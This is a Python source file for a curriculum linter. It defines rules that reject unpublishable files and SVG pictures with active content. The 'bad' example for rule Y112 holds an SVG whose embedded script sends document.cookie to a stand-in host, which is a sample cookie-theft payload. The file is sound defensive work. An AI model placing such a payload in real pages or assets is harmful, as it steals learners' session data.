"""What stands in the folder media/ of a module or in content/, and would be published whether a lesson names it or not."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path, PurePosixPath

from alongside.checks import drawings
from alongside.checks.links import ENDINGS
from alongside.checks.rule import Context, Finding, Rule
from alongside.load import media_files
from alongside.located import Place
from alongside.model import Curriculum
from alongside.problems import quoted

PUBLISHED = frozenset[str]().union(*ENDINGS.values())


def _published(curriculum: Curriculum) -> Iterator[tuple[Path, str]]:
    """The files in media/ of every module and in content/, and how messages call them."""
    for module in curriculum.modules.values():
        label = PurePosixPath(module.outline.place().file).parent
        for path in media_files(module):
            yield path, str(label / path.relative_to(module.folder).as_posix())
    for file in curriculum.files.values():
        yield file.path, file.label


def unpublishable_file(curriculum: Curriculum, context: Context) -> Iterator[Finding]:
    """Files that are neither pictures nor recordings nor captions."""
    for path, label in _published(curriculum):
        if path.suffix.lower() not in PUBLISHED:
            yield Finding(
                f"{quoted(path.name)} is no picture, recording or captions",
                Place(label),
                ", ".join(sorted(PUBLISHED)),
                "move the file out of this folder, or delete it; what an organisation wants published as it is belongs in theme/",
            )


def active_drawing(curriculum: Curriculum, context: Context) -> Iterator[Finding]:
    """SVG files with something in them that is no drawing."""
    for path, label in _published(curriculum):
        if path.suffix.lower() == ".svg":
            for what, line, column in drawings.troubles(path):
                yield Finding(
                    f"the picture {quoted(path.name)} {what}",
                    Place(label, line, column),
                    "shapes, text, colours and effects, all inside the file",
                    "save the picture as “plain SVG”, or as PNG",
                )


RULES: tuple[Rule, ...] = (
    Rule(
        "Y111",
        "media-kind",
        "error",
        "curriculum",
        "a file in media/ or content/ that is no picture, recording, captions or page",
        "Everything in media/ and content/ is published. A page or a script among it would be a page of the site that nobody reviewed, "
        "and could read what the browser keeps for learners. Move the file elsewhere, or delete it.",
        bad="""\
modules/listening/media/game.html: |
  <p>A game.</p>
""",
        good="""\
modules/listening/media/talk.vtt: |
  WEBVTT

  00:00.000 --> 00:04.000
  I nearly did not come.
""",
        check=unpublishable_file,
    ),
    Rule(
        "Y112",
        "drawing-active",
        "error",
        "curriculum",
        "an SVG picture that holds more than a drawing",
        "Opened by itself, an SVG file is a page of the site: script in it runs, links lead away, and what it names is fetched "
        "from other servers. So only shapes, text, colours and effects are let through. "
        "Drawing programs call that “plain SVG”.",
        bad="""\
modules/listening/media/ladder.svg: |
  <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8">
    <script>fetch("https://example.org/?" + document.cookie)</script>
    <path d="M0 0h8v8H0z"/>
  </svg>
""",
        good="""\
modules/listening/media/ladder.svg: |
  <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8">
    <title>A square</title>
    <path d="M0 0h8v8H0z"/>
  </svg>
""",
        check=active_drawing,
    ),
)
